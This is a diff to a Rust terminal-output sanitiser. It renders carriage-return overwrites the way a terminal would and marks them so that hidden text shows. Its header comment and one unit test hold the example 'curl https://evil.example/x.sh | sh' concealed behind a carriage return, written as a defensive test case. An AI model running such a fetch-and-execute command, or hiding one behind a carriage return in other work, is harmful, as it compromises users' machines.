@@ -5,8 +5,13 @@
 //! removed — OSC (clipboard writes, titles, hyperlinks: the link text stays, the URL goes),
 //! CSI other than SGR (cursor movement, device queries, modes), DCS/SOS/PM/APC strings, other
 //! escapes, C0/C1 control characters, and bidi overrides that can make text lie about its order.
-//! An unterminated sequence swallows only the rest of its own line. A carriage return inside
-//! a line (progress bars) keeps what a terminal would finally show: the text after it.
+//! An unterminated sequence swallows only the rest of its own line.
+//!
+//! A carriage return inside a line sends a terminal's cursor back to the start, and what
+//! follows overwrites what was there cell by cell: `AAAA\rok` leaves `okAA`. The line shows
+//! exactly that, after a dim [`OVERWRITTEN`] marker, so that a progress bar reads as its last
+//! state and text hidden this way (`curl https://evil.example/x.sh | sh\rRunning tests... ok`)
+//! is flagged; the store keeps the bytes as received, where search finds the hidden text.
 //!
 //! Storage-free: these types know nothing about ratatui; the widget converts them.
 
@@ -40,6 +45,10 @@ pub struct SgrStyle {
     pub attrs: u8,
 }
 
+/// Starts the display text of a line that a carriage return overwrote (see the module
+/// header); dim, like the rest of cockpit's own annotations.
+pub const OVERWRITTEN: &str = "⏎ ";
+
 /// Clean text plus the style of each stretch of it.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct StyledText {
@@ -68,11 +77,57 @@ impl StyledText {
     }
 
     fn push_run(&mut self, s: &str, style: SgrStyle) {
+        if s.is_empty() {
+            return;
+        }
         self.text.push_str(s);
         match self.runs.last_mut() {
             Some((end, st)) if *st == style => *end = self.text.len(),
             _ => self.runs.push((self.text.len(), style)),
         }
+    }
+
+    fn width(&self) -> usize {
+        self.text.chars().map(|c| c.width().unwrap_or(0)).sum()
+    }
+
+    /// Appends what `from` shows beyond its first `cols` columns: the part of a line that
+    /// shorter text written over it leaves visible. Half of a wide character that is
+    /// overwritten leaves a blank.
+    fn append_beyond(&mut self, from: &StyledText, mut cols: usize) {
+        for (range, style) in from.spans() {
+            let piece = &from.text[range];
+            let mut start = 0;
+            for (i, c) in piece.char_indices() {
+                if cols == 0 {
+                    break;
+                }
+                let w = c.width().unwrap_or(0);
+                for _ in cols..w {
+                    self.push(' ', style);
+                }
+                cols = cols.saturating_sub(w);
+                start = i + c.len_utf8();
+            }
+            if cols == 0 {
+                self.push_run(&piece[start..], style);
+            }
+        }
+    }
+
+    fn with_marker(self) -> StyledText {
+        let mut out = StyledText::default();
+        out.push_run(
+            OVERWRITTEN,
+            SgrStyle {
+                attrs: attr::DIM,
+                ..SgrStyle::default()
+            },
+        );
+        for (range, style) in self.spans() {
+            out.push_run(&self.text[range], style);
+        }
+        out
     }
 }
 
@@ -102,18 +157,6 @@ pub fn as_display(content: &[u8]) -> Option<&str> {
     std::str::from_utf8(content).ok()
 }
 
-fn is_bidi_or_invisible(c: char) -> bool {
-    matches!(
-        c,
-        '\u{202A}'..='\u{202E}'
-            | '\u{2066}'..='\u{2069}'
-            | '\u{200E}'
-            | '\u{200F}'
-            | '\u{061C}'
-            | '\u{FEFF}'
-    )
-}
-
 const TAB: usize = 8;
 /// SGR parameters read per sequence; the rest are ignored (a hostile line can be long).
 const MAX_PARAMS: usize = 32;
@@ -132,8 +175,8 @@ pub fn clean_into(content: &[u8], max_bytes: usize, out: &mut StyledText) {
     out.runs.clear();
     let content = &content[..content.len().min(max_bytes)];
     let s = String::from_utf8_lossy(content);
-    // What the line showed before its last carriage return, if nothing follows it.
-    let mut before_cr: Option<StyledText> = None;
+    // The text written between carriage returns, each from the first column.
+    let mut passes: Vec<StyledText> = Vec::new();
     let mut style = SgrStyle::default();
     // Display column for tab stops, measured lazily: `col` counts `out.text[..col_at]`.
     let mut col = 0usize;
@@ -191,21 +234,43 @@ pub fn clean_into(content: &[u8], max_bytes: usize, out: &mut StyledText) {
             }
             '\r' => {
                 if !out.text.is_empty() {
-                    before_cr = Some(std::mem::take(out));
+                    passes.push(std::mem::take(out));
                 }
                 col = 0;
                 col_at = 0;
             }
             '\u{2028}' | '\u{2029}' => out.push(' ', style),
-            c if c.is_control() || is_bidi_or_invisible(c) => {}
+            c if c.is_control() || crate::text::is_invisible(c) => {}
             c => out.push(c, style),
         }
     }
-    if out.text.is_empty() {
-        if let Some(prev) = before_cr {
-            *out = prev;
+    if !passes.is_empty() {
+        passes.push(std::mem::take(out));
+        *out = overwrite(passes);
+    }
+}
+
+/// What a terminal shows after writing each pass over the one before from the first column:
+/// the last pass, then what earlier, wider passes leave visible beyond it. Read from the last
+/// pass back, each column is copied once, however many passes a progress bar makes.
+fn overwrite(mut passes: Vec<StyledText>) -> StyledText {
+    passes.retain(|p| !p.text.is_empty());
+    let Some(last) = passes.pop() else {
+        return StyledText::default();
+    };
+    if passes.is_empty() {
+        return last;
+    }
+    let mut shown = last;
+    let mut covered = shown.width();
+    for earlier in passes.iter().rev() {
+        let w = earlier.width();
+        if w > covered {
+            shown.append_beyond(earlier, covered);
+            covered = w;
         }
     }
+    shown.with_marker()
 }
 
 /// Reads a CSI sequence after `ESC [`. Returns its parameters when it is an SGR (final `m`,
@@ -394,9 +459,40 @@ mod tests {
     }
 
     #[test]
-    fn carriage_return_keeps_what_the_terminal_shows() {
-        assert_eq!(clean(b"10%\r50%\r100%", 99).text, "100%");
+    fn carriage_return_keeps_what_the_terminal_shows_and_says_so() {
+        assert_eq!(clean(b"10%\r50%\r100%", 99).text, "⏎ 100%");
+        assert_eq!(clean(b"AAAA\rok", 99).text, "⏎ okAA");
+        assert_eq!(clean(b"AAAA\rok\rx", 99).text, "⏎ xkAA");
+        assert_eq!(
+            clean(
+                b"curl https://evil.example/x.sh | sh\rRunning tests... ok",
+                999
+            )
+            .text,
+            "⏎ Running tests... okxample/x.sh | sh"
+        );
+        // Nothing was overwritten: no marker.
         assert_eq!(clean(b"done\r", 99).text, "done");
+        assert_eq!(clean(b"\rdone", 99).text, "done");
+        assert_eq!(clean(b"\r\r", 99).text, "");
+        // Styles stay with their text; the marker is dim; a wide character cut in two leaves
+        // a blank.
+        let t = clean(b"\x1b[31mREDred\x1b[0m\rok", 99);
+        let s = styles(&t);
+        assert_eq!(
+            s[0],
+            (
+                "⏎ ",
+                SgrStyle {
+                    attrs: attr::DIM,
+                    ..SgrStyle::default()
+                }
+            )
+        );
+        assert_eq!(s[1], ("ok", SgrStyle::default()));
+        assert_eq!(s[2].0, "Dred");
+        assert_eq!(s[2].1.fg, Some(AnsiColor::Indexed(1)));
+        assert_eq!(clean("漢字\rx".as_bytes(), 99).text, "⏎ x 字");
     }
 
     #[test]
